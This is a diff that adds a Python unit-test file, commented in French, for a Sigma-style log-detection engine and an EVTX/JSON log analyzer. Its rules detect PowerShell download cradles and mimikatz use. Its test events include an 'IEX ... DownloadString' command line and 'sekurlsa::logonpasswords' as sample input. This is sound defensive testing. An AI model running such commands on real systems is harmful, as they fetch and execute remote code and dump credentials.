@@ -0,0 +1,178 @@
+import os
+import sys
+import shutil
+import tempfile
+import unittest
+
+import yaml
+
+# Ajout du répertoire parent au chemin de recherche
+sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), '../src')))
+
+from utils.log_rules import DetectionPlan, load_rules, flatten_event
+from utils.file_analyzer import FileAnalyzer
+from test_evtx_parser import build_evtx
+
+RULES = """
+title: Téléchargement PowerShell
+id: ps-download
+level: high
+detection:
+  selection:
+    Image|endswith: '\\\\powershell.exe'
+    CommandLine|contains:
+      - 'downloadstring'
+      - 'invoke-webrequest'
+  filter:
+    User: 'SYSTEM'
+  condition: selection and not filter
+---
+title: Outil offensif
+id: offensive-tool
+level: critical
+detection:
+  keywords:
+    - mimikatz
+    - 'sekurlsa::*'
+  condition: keywords
+---
+title: Connexion administrateur
+id: admin-logon
+level: low
+detection:
+  sel_user:
+    TargetUserName: 'adm*'
+  sel_id:
+    EventID: 4624
+  condition: all of sel_*
+---
+title: Règle avec agrégation
+id: unsupported
+detection:
+  selection:
+    EventID: 4625
+  condition: selection | count() > 5
+"""
+
+
+class TestLogRules(unittest.TestCase):
+    """Tests unitaires pour le moteur de règles de détection de logs"""
+
+    def setUp(self):
+        """Initialisation avant chaque test"""
+        self.test_dir = tempfile.mkdtemp()
+        rules_path = os.path.join(self.test_dir, "rules.yml")
+        with open(rules_path, "w", encoding="utf-8") as f:
+            f.write(RULES)
+        self.plan = DetectionPlan(load_rules(rules_path))
+
+    def tearDown(self):
+        """Nettoyage après chaque test"""
+        shutil.rmtree(self.test_dir)
+
+    def _ids(self, event):
+        return sorted(rule.id for rule in self.plan.evaluate(event))
+
+    def test_compilation(self):
+        """Test de la compilation et du rejet des règles non prises en charge"""
+        self.assertEqual([r.id for r in self.plan.rules], ["ps-download", "offensive-tool", "admin-logon"])
+        self.assertEqual(self.plan.rules[1].severity, "critical")
+
+    def test_field_modifiers_and_conditions(self):
+        """Test des modificateurs de champs et des conditions and/not/all of"""
+        event = {"Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell.exe",
+                 "CommandLine": "IEX (New-Object Net.WebClient).DownloadString('http://x')",
+                 "User": "alice"}
+        self.assertEqual(self._ids(event), ["ps-download"])
+        self.assertEqual(self._ids(dict(event, User="SYSTEM")), [])
+        self.assertEqual(self._ids(dict(event, Image=r"C:\Tools\pwsh.exe")), [])
+
+        self.assertEqual(self._ids({"EventID": 4624, "TargetUserName": "Administrator"}), ["admin-logon"])
+        self.assertEqual(self._ids({"EventID": 4625, "TargetUserName": "Administrator"}), [])
+
+    def test_required_event_ids(self):
+        """Test des EventID requis, déduits de la condition (sélections niées, branches "or")"""
+        def plan(condition, **selections):
+            rules_path = os.path.join(self.test_dir, "condition.yml")
+            with open(rules_path, "w", encoding="utf-8") as f:
+                yaml.safe_dump({"id": condition, "logsource": {"product": "windows"},
+                                "detection": dict(selections, condition=condition)}, f)
+            return DetectionPlan(load_rules(rules_path))
+
+        selection = {"Image|endswith": "\\cmd.exe"}
+        self.assertIsNone(plan("selection and not filter", selection=selection,
+                               filter={"EventID": 4688}).required_event_ids())
+        self.assertIsNone(plan("sel_id or selection", selection=selection,
+                               sel_id={"EventID": 1}).required_event_ids())
+        self.assertEqual(plan("sel_id and not filter", sel_id={"EventID": [1, 4688]},
+                              filter={"EventID": 4688, "User": "SYSTEM"}).required_event_ids(), {1, 4688})
+        self.assertEqual(plan("1 of sel_*", sel_a={"EventID": 1}, sel_b=[{"EventID": 3}, {"EventID": 5}])
+                         .required_event_ids(), {1, 3, 5})
+
+    def test_keywords(self):
+        """Test des mots-clés recherchés dans l'ensemble de l'événement"""
+        self.assertEqual(self._ids({"message": "Running MIMIKATZ 2.2"}), ["offensive-tool"])
+        self.assertEqual(self._ids({"message": "cmd: sekurlsa::logonpasswords"}), ["offensive-tool"])
+        self.assertEqual(self._ids({"message": "sekurlsa logon"}), [])
+
+    def test_flatten_event(self):
+        """Test de l'aplatissement des événements JSON"""
+        self.assertEqual(flatten_event({"a": {"b": 1, "c": {"d": 2}}, "e": 3}), {"a.b": 1, "a.c.d": 2, "e": 3})
+
+    def test_file_analyzer_integration(self):
+        """Test de l'application des règles par défaut aux logs texte, JSON et EVTX"""
+        analyzer = FileAnalyzer()
+
+        log_path = os.path.join(self.test_dir, "app.jsonl")
+        with open(log_path, "w") as f:
+            f.write('{"level": "warn", "msg": "Possible SQL injection from 10.0.0.5"}\n')
+            f.write("plain line without findings\n")
+        threats = analyzer._analyze_log_file(log_path)["threats"]
+        self.assertEqual(sorted(t["details"]["pattern"] for t in threats), ["injection", "sql injection"])
+        self.assertTrue(all(t["details"]["line_number"] == 1 for t in threats))
+
+        evtx_path = os.path.join(self.test_dir, "System.evtx")
+        build_evtx(evtx_path, [
+            ("Service Control Manager", 7045, "svc"),
+            ("Microsoft-Windows-Security-Auditing", 4624, "alice"),
+        ])
+        threats = analyzer._analyze_evtx_file(evtx_path)["threats"]
+        self.assertEqual([t["details"]["event_id"] for t in threats], [7045])
+        self.assertEqual(threats[0]["severity"], "high")
+
+    def test_evtx_records_without_event_id(self):
+        """Test d'un journal EVTX contenant des enregistrements malformés (EventID absent)"""
+        from unittest.mock import patch
+
+        analyzer = FileAnalyzer()
+        analyzer.evtx_plan = self.plan
+        records = [{"event_id": 4624, "provider": "Security", "data": {"Message": "mimikatz"}},
+                   {"event_id": None, "provider": "Security", "data": {"Message": "mimikatz"}},
+                   {"event_id": 7045, "provider": "SCM", "data": {"Message": "sekurlsa::logonpasswords"}}]
+        with patch("utils.file_analyzer.EvtxParser") as parser:
+            parser.return_value.records.return_value = iter(records)
+            results = analyzer._analyze_evtx_file(os.path.join(self.test_dir, "Broken.evtx"))
+        self.assertEqual([t["details"]["event_id"] for t in results["threats"]], [4624, 7045, None])
+
+    def test_rules_fingerprint(self):
+        """Test de l'empreinte des règles de logs (analyses incrémentales)"""
+        fingerprint = FileAnalyzer(log_rules_dir=self.test_dir).log_rules_fingerprint
+        self.assertEqual(FileAnalyzer(log_rules_dir=self.test_dir).log_rules_fingerprint, fingerprint)
+        with open(os.path.join(self.test_dir, "rules.yml"), "a", encoding="utf-8") as f:
+            f.write("\n")
+        self.assertNotEqual(FileAnalyzer(log_rules_dir=self.test_dir).log_rules_fingerprint, fingerprint)
+
+    def test_evtx_workers(self):
+        """Test du nombre de processus de décodage EVTX (un seul par défaut)"""
+        from unittest.mock import patch
+
+        path = os.path.join(self.test_dir, "Security.evtx")
+        for analyzer, workers in ((FileAnalyzer(), 1), (FileAnalyzer(evtx_workers=4), 4)):
+            with patch("utils.file_analyzer.EvtxParser") as parser:
+                parser.return_value.records.return_value = iter([])
+                analyzer._analyze_evtx_file(path)
+            parser.assert_called_once_with(path, workers=workers)
+
+
+if __name__ == '__main__':
+    unittest.main()